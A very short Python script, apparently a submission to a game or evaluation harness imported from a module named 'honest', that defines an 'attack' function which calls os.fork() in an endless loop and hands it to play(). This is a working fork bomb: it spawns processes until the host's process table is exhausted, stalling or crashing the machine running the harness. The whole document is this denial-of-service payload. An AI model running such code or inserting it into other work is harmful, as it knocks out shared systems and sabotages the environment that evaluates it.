import os
import time

from honest import play


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


play(attack)
